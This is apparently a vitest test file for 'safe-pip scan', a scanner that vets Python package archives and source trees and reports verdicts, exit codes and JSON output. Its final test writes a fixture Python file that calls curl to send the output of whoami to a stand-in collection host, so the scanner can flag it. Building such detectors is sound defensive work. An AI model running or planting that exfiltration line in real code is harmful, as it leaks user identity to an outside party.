import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { buildSdist } from '@safe-pip/testkit/build-sdist'
import { buildWheel } from '@safe-pip/testkit/build-wheel'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { callProgram } from '../call-program.test-support.ts'

interface ArtifactJson {
  readonly path: string
  readonly filename: string | null
  readonly verdict: string
  readonly findings: readonly { readonly rule: string; readonly effect: string; readonly place: { readonly file: string } }[]
  readonly not_checked: readonly { readonly check: string }[]
}
interface ReportJson {
  readonly schema: string
  readonly command: string
  readonly verdict: string
  readonly artifacts: readonly ArtifactJson[]
  readonly not_checked: readonly { readonly check: string; readonly subject: string }[]
}

const WHEEL = buildWheel({ name: 'demo', version: '1.0' })
const SDIST = buildSdist({ name: 'demo', version: '1.0' })
const DUPLICATE = buildWheel({
  name: 'twice',
  version: '1.0',
  entries: (entries) => [...entries, { name: 'twice/__init__.py', data: 'import os\n' }],
})

let folder: string
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'safe-pip-scan-'))
})
afterEach(() => rmSync(folder, { recursive: true }))

function put(path: string, content: string | Uint8Array): string {
  const whole = join(folder, path)
  mkdirSync(dirname(whole), { recursive: true })
  writeFileSync(whole, content)
  return path
}

async function scan(...words: string[]): Promise<{ exit: number; stdout: string; stderr: string }> {
  const { code, ...said } = await callProgram(['--home', join(folder, 'home'), 'scan', ...words], { cwd: folder })
  return { exit: code, ...said }
}

async function report(...words: string[]): Promise<{ exit: number; json: ReportJson }> {
  const { exit, stdout } = await scan('--format', 'json', ...words)
  return { exit, json: JSON.parse(stdout) as ReportJson }
}

describe('progress', () => {
  test('of many archives is told in lines where there is no terminal, and the report stays alone', async () => {
    const rest = WHEEL.filename.slice('demo'.length)
    for (let at = 0; at < 30; at++) put(`many/demo${String(at).padStart(2, '0')}${rest}`, WHEEL.bytes)
    const { stdout, stderr } = await scan('--format', 'json', 'many')
    const lines = stderr.split('\n').filter((line) => line.startsWith('safe-pip: '))
    expect([lines.length, lines[0], lines[1], lines.at(-1)]).toEqual([
      10,
      'safe-pip: reading 30 artifacts',
      'safe-pip: 3 of 30 read',
      'safe-pip: 27 of 30 read',
    ])
    expect((JSON.parse(stdout) as ReportJson).artifacts).toHaveLength(30)
  })
  test('of few is not worth a word', async () => {
    put(WHEEL.filename, WHEEL.bytes)
    expect((await scan(WHEEL.filename)).stderr).toBe('')
  })
})

describe('what is scanned', () => {
  test('a wheel and an sdist, as given', async () => {
    put(WHEEL.filename, WHEEL.bytes)
    put(`sub/${SDIST.filename}`, SDIST.bytes)
    const { exit, json } = await report(WHEEL.filename, `./sub/${SDIST.filename}`)
    expect(exit).toBe(0)
    expect([json.schema, json.command]).toEqual(['safe-pip/report', 'scan'])
    expect(json.artifacts.map(({ path, verdict }) => [path, verdict])).toEqual([
      ['demo-1.0-py3-none-any.whl', 'allow'],
      ['./sub/demo-1.0.tar.gz', 'allow'],
    ])
  })

  test('a folder with archives at any depth, archive by archive', async () => {
    put(`a/b/${WHEEL.filename}`, WHEEL.bytes)
    put(`a/${DUPLICATE.filename}`, DUPLICATE.bytes)
    put('a/README.txt', 'x')
    const { exit, json } = await report('a')
    expect(exit).toBe(80)
    expect(json.artifacts.map(({ path, verdict }) => [path, verdict])).toEqual([
      ['a/b/demo-1.0-py3-none-any.whl', 'allow'],
      ['a/twice-1.0-py3-none-any.whl', 'block'],
    ])
  })

  test('Python files beside archives are not taken for read', async () => {
    put(`a/${WHEEL.filename}`, WHEEL.bytes)
    put('a/setup.py', 'x = 1\n')
    const { json } = await report('a')
    expect(json.artifacts).toHaveLength(1)
    expect(json.not_checked).toMatchObject([{ check: 'source-tree', subject: 'a' }])
  })

  test('any other folder as one source tree, test data in it or not', async () => {
    put('tree/setup.py', 'x = 1\n')
    put('tree/tests/data.zip', 'PK')
    const { json } = await report('tree')
    expect(json.artifacts.map(({ path, filename }) => [path, filename])).toEqual([['tree', null]])
  })

  test('a lone Python file', async () => {
    const { json } = await report(put('lone.py', 'x = 1\n'))
    expect(json.artifacts.map(({ path, filename }) => [path, filename])).toEqual([['lone.py', 'lone.py']])
  })
})

describe('exit codes', () => {
  test('80: an archive that readers could see differently, with rule and member', async () => {
    const { exit, stdout } = await scan(put(DUPLICATE.filename, DUPLICATE.bytes))
    expect(exit).toBe(80)
    expect(stdout).toContain('twice/__init__.py: block: a path that stands twice in the archive [ambiguous-archive]')
  })

  test('80 for a question that nobody answers, 0 with a yes in advance', async () => {
    const startup = buildWheel({ name: 'demo', version: '1.0', files: { 'demo.pth': 'import demo\n' } })
    put(startup.filename, startup.bytes)
    expect((await scan(startup.filename)).exit).toBe(80)
    expect((await scan('--accept', 'demo==1.0', startup.filename)).exit).toBe(0)
  })

  test('81: archives that are cut, of another kind, or not read at all', async () => {
    put('cut-1.0-py3-none-any.whl', WHEEL.bytes.subarray(0, WHEEL.bytes.length - 30))
    put('old-1.0.tar.bz2', 'BZh9')
    put('text.txt', 'hello')
    for (const path of ['cut-1.0-py3-none-any.whl', 'old-1.0.tar.bz2', 'text.txt']) {
      const { exit, json } = await report(path)
      expect([path, exit, json.verdict, json.artifacts[0]?.verdict]).toEqual([path, 81, 'cannot-vet', 'cannot-vet'])
    }
  })

  test('an unreadable file does not keep the others from their report', async () => {
    put('a/cut-1.0-py3-none-any.whl', 'PK')
    put(`a/${WHEEL.filename}`, WHEEL.bytes)
    const { exit, json } = await report('a')
    expect(exit).toBe(81)
    expect(json.artifacts.map(({ verdict }) => verdict)).toEqual(['cannot-vet', 'allow'])
  })

  test.runIf(process.platform === 'linux')('a path that is no file does not either', async () => {
    put(WHEEL.filename, WHEEL.bytes)
    execFileSync('mkfifo', [join(folder, 'pipe-1.0-py3-none-any.whl')])
    const { exit, json } = await report(WHEEL.filename, 'pipe-1.0-py3-none-any.whl')
    expect(exit).toBe(81)
    expect(json.artifacts.map(({ verdict }) => verdict)).toEqual(['cannot-vet', 'allow'])
  })

  test('a path that is not there does not either', async () => {
    put(WHEEL.filename, WHEEL.bytes)
    const { exit, json } = await report('gone.whl', WHEEL.filename, 'nowhere/')
    expect(exit).toBe(81)
    expect(json.artifacts.map(({ path, verdict }) => [path, verdict])).toEqual([[WHEEL.filename, 'allow']])
    expect(json.not_checked).toEqual([
      { check: 'archive', reason: 'there is no such file', subject: 'gone.whl', effect: 'refuse' },
      { check: 'archive', reason: 'there is no such file', subject: 'nowhere/', effect: 'refuse' },
    ])
  })

  test('82: nothing to scan, or nothing there', async () => {
    expect((await scan()).exit).toBe(82)
    expect(await scan('gone.whl')).toMatchObject({ exit: 82, stdout: '' })
    expect(await scan('gone.whl', 'nowhere/')).toMatchObject({ exit: 82, stdout: '' })
  })
})

describe('output', () => {
  test('jsonl: what belongs to no artifact is said on standard error', async () => {
    put(WHEEL.filename, WHEEL.bytes)
    const { exit, stdout, stderr } = await scan('--format', 'jsonl', WHEEL.filename, 'gone.whl')
    expect([exit, stdout.trimEnd().split('\n').length]).toEqual([81, 1])
    expect(stderr).toContain('there is no such file')
  })

  test('jsonl: one artifact a line, in the order of the paths', async () => {
    put(WHEEL.filename, WHEEL.bytes)
    put(DUPLICATE.filename, DUPLICATE.bytes)
    const { exit, stdout } = await scan('--format', 'jsonl', DUPLICATE.filename, WHEEL.filename)
    expect(exit).toBe(80)
    const lines = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as ArtifactJson)
    expect(lines.map(({ filename, verdict }) => [filename, verdict])).toEqual([
      ['twice-1.0-py3-none-any.whl', 'block'],
      ['demo-1.0-py3-none-any.whl', 'allow'],
    ])
  })

  test('--output takes the report, standard output stays empty', async () => {
    put(WHEEL.filename, WHEEL.bytes)
    expect(await scan('--format', 'json', '--output', 'report.json', WHEEL.filename)).toMatchObject({ exit: 0, stdout: '' })
    const json = JSON.parse(readFileSync(join(folder, 'report.json'), 'utf8')) as ReportJson
    expect(json.artifacts).toHaveLength(1)
  })

  test('two runs give the same bytes', async () => {
    put(DUPLICATE.filename, DUPLICATE.bytes)
    const words = ['--format', 'json', '--now', '2026-11-22T00:00:00Z', DUPLICATE.filename]
    const first = await scan(...words)
    expect((await scan(...words)).stdout).toBe(first.stdout)
  })
})

test('explains the score behind the text, and only there', async () => {
  const file = put('a.py', 'import os\nos.system("curl https://collect.invalid/?u=$(whoami)")\n')
  const { stdout } = await callProgram(['scan', file, '--explain-score'], { cwd: folder })
  expect(stdout).toContain('1 × telling-command (malicious-code, unasked)')
  expect(stdout).toContain('the worst finding decides')
  const refused = await callProgram(['scan', file, '--explain-score', '--format', 'json'], { cwd: folder })
  expect(refused.code).toBe(82)
})
